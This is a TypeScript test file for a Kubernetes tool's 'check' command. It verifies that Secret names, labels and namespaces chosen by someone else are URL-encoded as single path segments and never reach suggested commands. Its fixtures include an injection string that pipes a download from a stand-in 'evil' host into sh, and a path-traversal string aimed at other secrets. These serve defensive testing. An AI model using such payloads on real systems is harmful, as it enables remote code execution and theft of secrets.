import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { ApiClient } from '../../../src/cluster/api-client.ts';
import type { CheckReport } from '../../../src/questions/check/judge.ts';
import { tryPods } from '../../../src/questions/check/try-webhooks.ts';
import { readClusterConfig } from '../../../src/world/cluster-config.ts';
import { runCommand } from '../../process/run-command.ts';
import { type Stored, startApi, worldOf } from '../explain/explain-api.ts';

const SHELL = 'x; curl evil.sh | sh #';
const OTHER = 'x/../../../other/secrets/y';

/** A Deployment whose author chose the names of a Secret and of the label of nodes. */
function deploymentWith(secretName: string, regionLabel: string): Stored {
  const container = {
    name: 'gridgate',
    args: ['serve', '--roles=controllers', `--region-label=${regionLabel}`],
    volumeMounts: [{ name: 'sources', mountPath: '/sources' }],
  };
  const spec = {
    template: { spec: { containers: [container], volumes: [{ name: 'sources', secret: { secretName } }] } },
  };
  return { metadata: { name: 'controllers', labels: { 'app.kubernetes.io/name': 'gridgate' } }, spec } as Stored;
}

describe('a name that somebody else chose', () => {
  for (const [what, secret] of [
    ['a shell would act upon', SHELL],
    ['leads to another object', OTHER],
  ] as const)
    it(`and ${what} is in no command, and is one part of a path`, async (t) => {
      const sources = [{ type: 'electricity-maps', token: { file: '/sources/maps' } }];
      const configMap = { metadata: { name: 'gridgate' }, data: { 'gridgate.yaml': JSON.stringify({ sources }) } };
      const { asked, kubeconfig } = await startApi(t, {
        ...worldOf(),
        '/apis/apps/v1/namespaces/gridgate-system/deployments': [deploymentWith(secret, SHELL)],
        '/api/v1/namespaces/gridgate-system/configmaps': [configMap],
      });
      const { stdout } = await runCommand(['check', '--kubeconfig', kubeconfig, '-o', 'json']);
      const { checks } = JSON.parse(stdout) as CheckReport;
      assert.ok(
        checks.some(({ says }) => says.includes(`there is no Secret ${secret} in gridgate-system`)),
        stdout,
      );
      assert.ok(checks.some(({ check, state }) => check === 'labels' && state === 'failed'));
      const commands = checks.flatMap(({ todo }) => todo ?? []);
      for (const command of commands) assert.doesNotMatch(command, /evil|\.\./);
      assert.ok(asked.includes(`/api/v1/namespaces/gridgate-system/secrets/${encodeURIComponent(secret)}`));
      assert.ok(!asked.some((path) => path.includes('other/')));
    });

  it('a namespace, is one part of a path', async () => {
    const paths: string[] = [];
    const api: Pick<ApiClient, 'get' | 'send'> = {
      get: async (path) => void paths.push(path),
      send: async (_method, path) => void paths.push(path),
    };
    await readClusterConfig(api, 'a/../b', 1_000);
    await tryPods(api, { value: [] }, 'a/../b');
    assert.deepEqual(paths, [
      '/api/v1/namespaces/a%2F..%2Fb/configmaps/gridgate',
      '/api/v1/namespaces/a%2F..%2Fb/pods',
    ]);
  });
});
